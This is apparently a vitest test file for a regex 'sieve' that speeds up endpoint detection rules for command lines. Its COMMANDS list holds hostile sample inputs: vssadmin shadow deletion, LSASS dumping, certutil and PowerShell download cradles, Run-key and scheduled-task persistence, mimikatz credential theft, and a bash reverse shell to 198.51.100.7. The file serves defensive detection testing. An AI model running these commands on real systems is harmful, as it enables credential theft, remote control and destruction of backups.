/** The sieve answers as its patterns do, and runs few of them. */
import { expect, test, vi } from 'vitest';
import { createSieve, literalsOf } from '../../../analysis/literals/index.ts';
import { ACT_PATTERNS } from '../../../analysis/endpoint/rules/acts.ts';
import { COMMAND_RULES } from '../../../analysis/endpoint/rules/all.ts';

test.each<[RegExp, readonly string[] | undefined]>([
  [/\bvssadmin(?:\.exe)?["']? +delete/i, ['vssadmin']],
  [/foo|barely/i, ['foo', 'barely']],
  [/foo|b/i, undefined],
  [/ab?cdef/i, ['cdef']],
  [/ab+cdef/i, ['bcdef']],
  [/ab{2,3}cdef/i, ['bcdef']],
  [/(?:one|two)? three/i, [' three']],
  [/(?:alpha|betas)+x/i, ['alpha', 'betas']],
  [/alp(?!ine)habet\B/i, ['alphabet']],
  [/alp(?=h)habet/i, ['alphabet']],
  [/(?<=quite) (?<name>named)/i, ['named']],
  [/[abc\]]{3}long[^]end/i, ['long']],
  [/\x41\u0042\d\wcde/i, ['cde']],
  [/\\\/\.exe/i, ['\\/.exe']],
  [/caf\u00e9terra/i, ['terra']],
  [/(?:|empty)/i, undefined],
  [/kelvin/iu, undefined],
  [/walks/gi, undefined],
  [/(twice)\1/i, ['twice']],
])('%s needs %j', (pattern, literals) => {
  expect(literalsOf(pattern)).toEqual(literals);
});

test('what the rules for command lines find is the same with the sieve as without it', () => {
  const patterns = [...COMMAND_RULES.map(({ pattern }) => pattern), ...ACT_PATTERNS];
  const sieve = createSieve(patterns);
  let found = 0;
  for (const text of COMMANDS) {
    const find = sieve.over(text);
    for (const pattern of patterns) {
      const plain = pattern.exec(text);
      expect(find(pattern), `${pattern.source} over ${text}`).toEqual(plain);
      if (plain) found += 1;
    }
  }
  expect(found).toBeGreaterThan(COMMANDS.length);
});

test('a text without any of the words of the rules is shown to few of them', () => {
  const patterns = COMMAND_RULES.map(({ pattern }) => pattern);
  const find = createSieve(patterns).over('chrome.exe --type=renderer --id=7 xxxxxxxxxxxxxxxx');
  const run = vi.spyOn(RegExp.prototype, 'exec');
  for (const pattern of patterns) find(pattern);
  expect(run.mock.calls.length).toBeLessThan(patterns.length / 10);
  run.mockRestore();
});

const COMMANDS = [
  'VSSADMIN.exe delete shadows /all /quiet',
  'powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 628 C:\\Windows\\Temp\\l.dmp full',
  'certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe',
  'cmd /c whoami & net user & net localgroup administrators & systeminfo & ipconfig /all',
  'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe',
  'schtasks /create /tn a /tr c:\\a.exe /sc onlogon & at 10:00 a.exe',
  'wmic /node:host process call create "cmd /c a"',
  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1; history -c; crontab -l',
  'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a.ps1")',
  'copy a.txt b.pdf.exe & attrib +h b & hh c.chm & ps -ef & tar -czf a.tgz /etc',
  'mimikatz sekurlsa::logonpasswords \u212aerberos \u017fystem \u0130nfo',
];
